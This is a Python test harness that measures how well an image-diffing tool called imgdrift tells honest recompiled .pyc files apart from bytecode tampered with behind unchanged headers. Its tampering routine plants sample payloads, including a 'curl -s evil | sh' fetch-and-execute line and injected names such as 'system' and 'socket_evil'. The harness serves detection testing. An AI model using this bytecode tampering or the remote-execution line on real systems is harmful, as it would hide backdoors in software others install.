#!/usr/bin/env python3
"""Compiled Python against its source: no false alarm on honest bytecode, and how much of altered bytecode is seen.

    pyc.py IMGDRIFT DIR PYTHON...      DIR keeps the wheels that were fetched and the archives that were compared

For each interpreter its standard library and what it can install of WHEELS are compiled several ways, laid out as images and
compared: by two processes with other hash seeds, of which one writes references and the other none; by time and by hash;
bytecode on one side only; an upgrade of all distributions. Every differing .pyc must be explained as bytecode or package,
without an alarm. Then EDITS random files are altered behind an unchanged header, and three questions asked: altered in place,
planted where the other side has none, and planted within the upgrade. Ends with 1 when there was a false alarm. No Docker.
"""
import base64
import collections
import hashlib
import io
import json
import os
import random
import subprocess
import sys
import tarfile

TIME = 1_700_000_000
EDITS = 200
WHEELS = """aiohttp attrs certifi cffi charset-normalizer click cryptography flask idna importlib-metadata jinja2 jsonschema
    lxml markupsafe numpy packaging pandas pillow pluggy pydantic pygments pytest python-dateutil pyyaml requests rich
    setuptools six sqlalchemy tornado typing-extensions urllib3 werkzeug wheel""".split()

# Run by the interpreter at hand: compiles what stands in a folder, with the names that it has in the image.
COMPILE = r"""
import importlib.util, marshal, os, struct, sys
root, order, by_hash = sys.argv[1], sys.argv[2], sys.argv[3] == "hash"
out, magic = sys.stdout.buffer, importlib.util.MAGIC_NUMBER
sources = [os.path.join(at, name) for at, _, names in os.walk(root) for name in names if name.endswith(".py")]
for path in sorted(sources, reverse=order == "back"):
    text = open(path, "rb").read()
    try:
        code = compile(text, path[len(root):], "exec", dont_inherit=True, optimize=0)
    except (SyntaxError, ValueError, RecursionError):
        continue
    if by_hash and sys.version_info >= (3, 7):
        header = magic + struct.pack("<I", 3) + importlib.util.source_hash(text)
    else:
        flags = struct.pack("<I", 0) if sys.version_info >= (3, 7) else b""
        header = magic + flags + struct.pack("<II", %d, len(text) & 0xffffffff)
    # Version 2 writes each object in full, however often it was referred to.
    content = header + (marshal.dumps(code, 2) if order == "back" else marshal.dumps(code))
    folder, name = os.path.split(path[len(root) + 1:])
    cache = "%%s/__pycache__/%%s.%%s.pyc" %% (folder, name[:-3], sys.implementation.cache_tag)
    line = cache.encode("utf-8", "surrogateescape")
    out.write(struct.pack("<II", len(line), len(content)) + line + content)
""" % TIME

# Run by the interpreter at hand: alters one code object in each of several files.
ALTER = r"""
import marshal, random, struct, sys
chance, inp, out = random.Random(7), sys.stdin.buffer, sys.stdout.buffer
KINDS = ["a name that is new", "a name for another of its own", "a constant", "an opcode", "a call put in front"]

def all_code(code):
    yield code
    for constant in code.co_consts:
        if hasattr(constant, "co_code"):
            yield from all_code(constant)

def swapped(code, old, new):
    if code is old:
        return new
    consts = tuple(swapped(one, old, new) if hasattr(one, "co_code") else one for one in code.co_consts)
    return code.replace(co_consts=consts)

def other(constant):
    if isinstance(constant, bool) or constant is None:
        return None
    if isinstance(constant, int):
        return constant + 1
    if isinstance(constant, (str, bytes)):
        return constant + type(constant)(b"x", "ascii") if isinstance(constant, str) else constant + b"x"
    return None

def altered(code, kind, text):
    parts = list(all_code(code))
    chance.shuffle(parts)
    for part in parts:
        if kind == 0 and part.co_names:
            names = list(part.co_names)
            names[chance.randrange(len(names))] = chance.choice(["system", "popen", "exec_evil", "socket_evil", "b64evil"])
            return part, part.replace(co_names=tuple(names))
        if kind == 1 and len(set(part.co_names)) > 1:
            names = list(part.co_names)
            one, two = chance.sample(range(len(names)), 2)
            names[one], names[two] = names[two], names[one]
            return part, part.replace(co_names=tuple(names))
        if kind == 2:
            for at, constant in enumerate(part.co_consts):
                new = other(constant)
                if new is not None:
                    return part, part.replace(co_consts=part.co_consts[:at] + (new,) + part.co_consts[at + 1:])
        if kind == 3 and len(part.co_code) > 4:
            code = bytearray(part.co_code)
            at = chance.randrange(0, len(code), 2)
            code[at + 1] ^= 1
            return part, part.replace(co_code=bytes(code))
        if kind == 4:
            text = b"__import__('os').system('curl -s evil | sh')\n" + text
            return code, compile(text, code.co_filename, "exec", dont_inherit=True, optimize=0)
    return None

def take(count):
    data = inp.read(count)
    return data if len(data) == count else None

number = 0
while True:
    head = take(12)
    if head is None:
        break
    lengths = struct.unpack("<III", head)
    name, content, text = (take(length) for length in lengths)
    size = 16 if sys.version_info >= (3, 7) else 12
    code = marshal.loads(content[size:])
    kind = number % len(KINDS)
    try:
        change = altered(code, kind, text)
    except SyntaxError:
        change = None
    if change is None:
        continue
    new = swapped(code, *change)
    # A byte of an inline cache, say, is no part of the code.
    if marshal.loads(marshal.dumps(new)) == code:
        continue
    number += 1
    new = content[:size] + marshal.dumps(new)
    label = KINDS[kind].encode()
    out.write(struct.pack("<III", len(label), len(name), len(new)) + label + name + new)
"""


def packed(stream, fields):
    """Records of byte strings that a script wrote, each led by their lengths."""
    while head := stream.read(4 * fields):
        lengths = [int.from_bytes(head[at:at + 4], "little") for at in range(0, 4 * fields, 4)]
        yield tuple(stream.read(length) for length in lengths)


def run(python, script, *arguments, given=b"", seed="0"):
    """What a script wrote that ran in another interpreter."""
    environment = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONWARNINGS": "ignore", "PYTHONDONTWRITEBYTECODE": "1"}
    command = [python, "-c", script, *arguments]
    return subprocess.run(command, input=given, env=environment, check=True, stdout=subprocess.PIPE).stdout


def compiled(python, root, order="forth", by="time", seed="1"):
    """Path in the image and bytes of all compiled files."""
    made = run(python, COMPILE, root, order, by, seed=seed)
    return {path.decode("utf-8", "surrogateescape"): content for path, content in packed(io.BytesIO(made), 2)}


def fetched(python, folder):
    """A folder with what the interpreter can install of the wheels, without bytecode."""
    if os.path.isdir(folder):
        return
    base = [python, "-m", "pip", "install", "-q", "--no-deps", "--no-compile", "--only-binary", ":all:", "--target", folder]
    if subprocess.run([*base, *WHEELS], stderr=subprocess.DEVNULL).returncode:
        for wheel in WHEELS:
            subprocess.run([*base, wheel], stderr=subprocess.DEVNULL)


def sources(python, version, folder):
    """Standard library and wheels as they stand in an image: `{path: bytes}`, below a folder with the same names."""
    root = os.path.join(folder, f"root-{version}")
    library = f"usr/lib/python{version}"
    if not os.path.isdir(root):
        stdlib = run(python, "import os; print(os.path.dirname(os.__file__))").decode().strip()
        for start, target in ((stdlib, library), (os.path.join(folder, f"wheels-{version}"), f"{library}/site-packages")):
            for at, folders, names in os.walk(start):
                # Distributions ship no tests of the library.
                folders[:] = [name for name in folders if name not in ("site-packages", "__pycache__", "test", "tests")]
                for name in names:
                    if name.endswith(".py") or ".dist-info" in at:
                        path = os.path.join(root, target, os.path.relpath(os.path.join(at, name), start))
                        os.makedirs(os.path.dirname(path), exist_ok=True)
                        with open(os.path.join(at, name), "rb") as source, open(path, "wb") as copy:
                            copy.write(source.read())
    found = {}
    for at, _, names in os.walk(root):
        for name in names:
            with open(os.path.join(at, name), "rb") as file:
                found[os.path.relpath(os.path.join(at, name), root)] = file.read()
    return root, found


def upgraded_from(files):
    """The same distributions a version earlier: each source has a line more, and its RECORD the hash of it."""
    older = {path: data + b"\n# older\n" if path.endswith(".py") and "/site-packages/" in path else data for path, data in files.items()}
    for path, data in files.items():
        if not path.endswith(".dist-info/RECORD"):
            continue
        site = path.split(".dist-info/")[0].rsplit("/", 1)[0]
        lines = []
        for line in data.decode().splitlines():
            name = line.split(",")[0].strip('"')
            text = older.get(f"{site}/{name}")
            if text is not None and name.endswith(".py"):
                digest = base64.urlsafe_b64encode(hashlib.sha256(text).digest()).rstrip(b"=").decode()
                line = f"{name},sha256={digest},{len(text)}"
            elif name.endswith("/METADATA"):
                line = f"{name},,"
            lines.append(line)
        older[path] = "\n".join(lines).encode() + b"\n"
        metadata = path.replace("/RECORD", "/METADATA")
        older[metadata] = b"\n".join(
            b"Version: 0.0.1" if line.startswith(b"Version: ") else line for line in files[metadata].split(b"\n"))
    return older


def archive(path, files):
    """A docker archive of one layer."""
    layer = io.BytesIO()
    with tarfile.open(fileobj=layer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name in sorted(files):
            entry = tarfile.TarInfo(name)
            entry.size, entry.mtime, entry.mode = len(files[name]), TIME, 0o644
            tar.addfile(entry, io.BytesIO(files[name]))
    layer = layer.getvalue()
    config = {"architecture": "amd64", "os": "linux", "config": {"Cmd": ["/bin/sh"]},
              "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]}}
    config = json.dumps(config).encode()
    name = hashlib.sha256(config).hexdigest() + ".json"
    manifest = json.dumps([{"Config": name, "RepoTags": ["t:latest"], "Layers": ["layer.tar"]}]).encode()
    with tarfile.open(path, mode="w") as tar:
        for member, data in ((name, config), ("layer.tar", layer), ("manifest.json", manifest)):
            entry = tarfile.TarInfo(member)
            entry.size = len(data)
            tar.addfile(entry, io.BytesIO(data))


def differing(imgdrift, left, right):
    """What is said of each differing .pyc: `{path: change}`."""
    command = [imgdrift, left, right, "--all", "--format", "json"]
    report = json.loads(subprocess.run(command, check=True, stdout=subprocess.PIPE).stdout)
    return {change["path"].lstrip("/"): change for change in report["files"]["changes"] if change["path"].endswith(".pyc")}


def word(change):
    if change is None:
        return "unseen"
    if change.get("alarm") or change["explanation"] == "same-version":
        return "alarm"
    if change["explanation"] in ("bytecode", "package"):
        return change.get("proof") or "no proof"
    return change["explanation"]


def edited(python, files, cache, count):
    """Some compiled files altered behind their headers: `{path: (kind, bytes)}`."""
    chance, given = random.Random(3), b""
    version_tag = lambda path: os.path.basename(path).split(".")[0]
    paths = sorted(path for path in cache if len(cache[path]) > 400 and "/test" not in path)
    for path in chance.sample(paths, min(len(paths), count)):
        source = files[os.path.dirname(os.path.dirname(path)) + "/" + version_tag(path) + ".py"]
        name = path.encode("utf-8", "surrogateescape")
        lengths = b"".join(len(part).to_bytes(4, "little") for part in (name, cache[path], source))
        given += lengths + name + cache[path] + source
    made = run(python, ALTER, given=given)
    return {path.decode("utf-8", "surrogateescape"): (kind.decode(), new) for kind, path, new in packed(io.BytesIO(made), 3)}


def main():
    imgdrift, folder, pythons = sys.argv[1], sys.argv[2], sys.argv[3:]
    os.makedirs(folder, exist_ok=True)
    wrong, told = 0, collections.defaultdict(collections.Counter)
    versions = [run(python, "import sys; print('%d.%d' % sys.version_info[:2])").decode().strip() for python in pythons]
    # 3.6 and 3.7 have no code.replace.
    editable = [version for version in versions if version not in ("3.6", "3.7")]
    for python, version in zip(pythons, versions):
        fetched(python, os.path.join(folder, f"wheels-{version}"))
        root, files = sources(python, version, folder)
        one = compiled(python, root)
        images = {
            "without": files,
            "one": {**files, **one},
            "other": {**files, **compiled(python, root, order="back", seed="2")},
            "hashed": {**files, **compiled(python, root, by="hash", seed="3")},
            "older": {**(older := upgraded_from(files)), **{path: data for path, data in one.items() if "/site-packages/" not in path}},
        }
        share = EDITS // len(editable) + (version in editable[:EDITS % len(editable)]) if version in editable else 0
        # Some of them come to nothing.
        edits = dict(list(edited(python, files, one, 3 * share).items())[:share])
        bad = {path: data for path, (_, data) in edits.items()}
        images["altered"] = {**files, **one, **bad}
        del older
        tar = {name: os.path.join(folder, f"{version}-{name}.tar") for name in images}
        for name in images:
            archive(tar[name], images[name])
        distributions = sum(path.endswith(".dist-info/RECORD") for path in files)
        for left, right in (("one", "other"), ("one", "hashed"), ("without", "one"), ("one", "without"), ("older", "one")):
            rows = differing(imgdrift, tar[left], tar[right])
            words = collections.Counter((change["explanation"], word(change)) for change in rows.values())
            false = [path for path, change in rows.items() if change["explanation"] not in ("bytecode", "package") or change.get("alarm")]
            wrong += len(false)
            counted = ", ".join(f"{count} {explanation} by {proof}" for (explanation, proof), count in sorted(words.items()))
            print(f"Python {version}, {len(one)} files, {distributions} wheels: {left} → {right}: {counted}; {len(false)} false", flush=True)
            for path in false[:10]:
                print("    ", path, rows[path]["explanation"], rows[path]["detail"], rows[path].get("alarm"))
        for left, question in (("one", "in place"), ("without", "planted"), ("older", "in an upgrade")):
            rows = differing(imgdrift, tar[left], tar["altered"])
            for path, (kind, _) in edits.items():
                if left != "older" or "/site-packages/" in path:
                    told[question, kind][word(rows.get(path))] += 1
    for (question, kind), words in sorted(told.items()):
        print(f"{question:14} {kind:32}", ", ".join(f"{count} {name}" for name, count in words.most_common()))
    print(f"{wrong} false alarms")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
